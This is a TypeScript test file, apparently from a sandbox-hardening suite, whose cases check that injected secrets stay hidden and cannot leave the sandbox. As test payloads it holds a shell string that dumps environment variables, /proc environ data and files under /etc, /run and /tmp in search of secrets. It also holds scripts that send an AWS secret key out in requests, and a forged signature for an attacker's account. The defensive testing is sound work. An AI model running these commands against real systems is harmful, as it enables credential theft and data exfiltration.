/** Threat: where a credential comes from, or what it is used to sign with, is seen from inside. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { groupOf, node, sh } from "../attack.ts";
import { runCreel } from "../creel-run.ts";
import type { Case, Witness } from "../model.ts";
import type { Stage } from "../stage.ts";
import { all, noCredential, nothingReached, prints, serverGot } from "../witness.ts";

const attack = groupOf("credentials", ["egress", "rules", "credentials"]);
const hidden = { promise: "credential-hidden" };
const SEARCH =
  "env; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat \"$1\"; find /run /tmp /etc /sandbox -type f 2>/dev/null | xargs cat 2>/dev/null; true";

/** A command that is given the secret from this source, and looks for it. */
const given = (source: (file: string) => string) => (stage: Stage) => {
  const file = join(stage.hostDir, "credential");
  writeFileSync(file, `${stage.secrets[0]}\n`, { mode: 0o666 });
  return runCreel(stage, ["run", "--secret", `TOKEN=${source(file)}`, "--", "sh", "-c", SEARCH, "sh", file]);
};

const secretKeyNowhere: Witness = {
  says: "the secret key arrived nowhere, signed with or not",
  async check(seen) {
    await seen.settled();
    return JSON.stringify(seen.hits).includes(seen.stage.secrets[2] ?? "?") ? "a server got the secret key" : null;
  },
};
const AWS = '"https://s3.eu-central-1.amazonaws.com/mine/k"';
const FOREIGN =
  "AWS4-HMAC-SHA256 Credential=AKIAEVIL/20260101/eu-central-1/s3/aws4_request, SignedHeaders=host, Signature=0";

export const credentialSources: Case[] = [
  attack("cred-source-file", "looks for the file that a secret comes from", {
    ...hidden,
    needs: ["door"],
    program: sh("true"),
    run: given((file) => `@${file}`),
    expect: all(noCredential, prints(/TOKEN=creel-placeholder/)),
  }),
  attack("cred-source-command", "looks for the command that a secret comes from, and what it prints", {
    ...hidden,
    needs: ["door"],
    program: sh("true"),
    run: given((file) => `exec:cat ${file}`),
    expect: all(noCredential, prints(/TOKEN=creel-placeholder/)),
  }),
  attack("aws-honest", "control: a request to AWS arrives signed with the sandbox's own key", {
    promise: "honest-work",
    control: true,
    program: node(`const r = await ask(${AWS}); say(r.failed ?? r.status)`),
    expect: all(
      prints(/^200$/m),
      serverGot("aws", /AWS4-HMAC-SHA256 Credential=AKIACREELADVERSARIAL\//),
      secretKeyNowhere,
    ),
  }),
  attack("aws-key-inside", "has the secret key put into headers, query and body, and echoed", {
    ...hidden,
    program: node(
      `const k = process.env.AWS_SECRET_ACCESS_KEY; say(await ask(${AWS} + "?k=" + k, { method: "PUT", headers: { "x-amz-meta-k": k }, body: k })); say(await ask("https://" + host("api") + "/v1/echo?k=" + k, { headers: { authorization: "Bearer " + k } }))`,
    ),
    expect: all(secretKeyNowhere, noCredential),
  }),
  attack("aws-foreign-key", "signs with a key of the attacker's account, to carry data there through the same host", {
    promise: "credential-bound",
    program: node(
      `say(await ask(${AWS}, { headers: { authorization: ${JSON.stringify(FOREIGN)} } })); say(await ask(${AWS} + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEVIL%2F20260101%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Signature=0&X-Amz-Date=20260101T000000Z&X-Amz-SignedHeaders=host"))`,
    ),
    expect: nothingReached("aws"),
  }),
  attack("aws-other-path", "has a request signed outside the path that the key is bound to", {
    promise: "credential-bound",
    program: node(`say(await ask("https://s3.eu-central-1.amazonaws.com/theirs/k"))`),
    expect: nothingReached("aws"),
  }),
];
